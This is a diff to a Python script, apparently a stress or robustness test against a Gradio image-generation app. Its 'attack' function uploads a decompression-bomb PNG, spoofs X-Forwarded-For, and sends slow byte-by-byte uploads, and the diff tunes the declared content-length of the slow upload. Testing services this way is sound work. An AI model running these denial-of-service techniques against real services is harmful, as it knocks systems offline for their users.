@@ -51,6 +51,7 @@ PREVIEW_STEPS, PREVIEW_REPEATS = 6, 5
 
 PROMPTS = ("a red apple, flat style", "an owl, noto style", "a rocket, flat style", "a pizza, noto style")
 HEADER = "X-Forwarded-For"
+SLOW_BYTES = 20  # of a slow upload
 
 
 @dataclass
@@ -160,7 +161,7 @@ def attack(url: str, ended: threading.Event, number: int) -> None:
                 (path,) = client.post("gradio_api/upload", files={"files": ("bomb.png", bomb())}).json()
                 file = {"path": path, "meta": {"_type": "gradio.FileData"}}
                 client.post("gradio_api/call/ask", json={"data": [file, "what is this?"]})
-                client.post("gradio_api/upload", content=slow_body(ended), headers={"content-length": "100000"})
+                client.post("gradio_api/upload", content=slow_body(ended), headers={"content-length": str(SLOW_BYTES)})
             except (httpx.HTTPError, ValueError):  # refused, or not JSON
                 pass
             ended.wait(0.2)
@@ -176,9 +177,8 @@ def bomb() -> bytes:
 
 def slow_body(ended: threading.Event):
     """A body that arrives a byte at a time, for two seconds."""
-    for _ in range(20):
-        if ended.wait(0.1):
-            return
+    for _ in range(SLOW_BYTES):
+        ended.wait(0.1)
         yield b"x"
 
 
